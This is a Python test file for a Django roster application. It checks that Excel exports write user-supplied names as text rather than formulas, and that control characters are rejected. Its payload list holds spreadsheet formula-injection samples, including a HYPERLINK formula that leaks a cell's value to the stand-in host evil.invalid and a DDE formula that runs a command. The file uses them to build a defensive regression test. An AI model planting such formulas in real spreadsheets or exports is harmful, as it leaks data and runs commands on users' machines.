"""Hardening (issue 9): user text is written to Excel as text, never as a formula; control
characters are refused at the boundary and do not break exports of what is already stored."""
from __future__ import annotations

import io
import zipfile

import openpyxl
import pytest

from accounts.models import Role
from audit.models import AuditEvent
from common.excel import ExportWorkbook
from tenants.organisation.models import Village
from tests.factories import BranchFactory, MemberFactory, VillageFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
]


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_export_workbook_writes_formula_like_text_as_text():
    book = ExportWorkbook().sheet("名单", ["姓名"])
    for name in FORMULAS:
        book.append([name])
    content = book.to_bytes()
    assert "<f>" not in _sheet_xml(content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type) for c in cells] == [(name, "s") for name in FORMULAS]


@pytest.fixture
def office(make_user, township_a):
    return make_user(Role.TOWNSHIP_OFFICE, township_a)


def test_every_roster_export_writes_names_as_text(township_a, in_township, office, client):
    with in_township(township_a):
        village = VillageFactory(name=FORMULAS[0], code="F01")
        branch = BranchFactory(name=FORMULAS[1], village=village)
        MemberFactory(name=FORMULAS[2], branch=branch)
    client.force_login(office)
    for path, names in (("members", [FORMULAS[2], FORMULAS[1]]), ("villages", [FORMULAS[0]]),
                        ("branches", [FORMULAS[1], FORMULAS[0]])):
        response = client.get(f"/t/alpha/roster/export/{path}.xlsx")
        assert response.status_code == 200
        content = b"".join(response) if response.streaming else response.content
        assert "<f>" not in _sheet_xml(content)
        values = {cell.value: cell.data_type for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows()
                  for cell in row if isinstance(cell.value, str)}
        for name in names:
            assert values[name] == "s", path


def test_exports_survive_control_characters_already_stored(township_a, in_township, office, client):
    with in_township(township_a):
        village = VillageFactory(name="东村", code="C01")
        MemberFactory(name="张三", branch=BranchFactory(name="东村党支部", village=village))
        # Stored before the input rule existed (a direct write, not through the services).
        Village.objects.filter(pk=village.pk).update(name="东\x01村\x1f")
    client.force_login(office)
    response = client.get("/t/alpha/roster/export/villages.xlsx")
    assert response.status_code == 200
    rows = list(openpyxl.load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    assert rows[1][:2] == ("东村", "C01")


def test_control_characters_are_refused_by_the_api_and_the_form(township_a, in_township, office, api, client):
    with in_township(township_a):
        before = (Village.objects.count(), AuditEvent.objects.count())
    response = api(office).post("/t/alpha/api/v1/villages/", {"name": "南\x01村", "code": "A09"})
    assert response.status_code == 400, response.json()
    assert response.json()["error"]["fields"]["name"] == ["文本含有不可见的控制字符（如 U+0001），请删除。"]
    client.force_login(office)
    page = client.post("/t/alpha/villages/new/", {"name": "北\x07村", "code": "A10"})
    assert page.status_code == 200
    assert "文本含有不可见的控制字符" in page.content.decode()
    with in_township(township_a):
        assert (Village.objects.count(), AuditEvent.objects.count()) == before
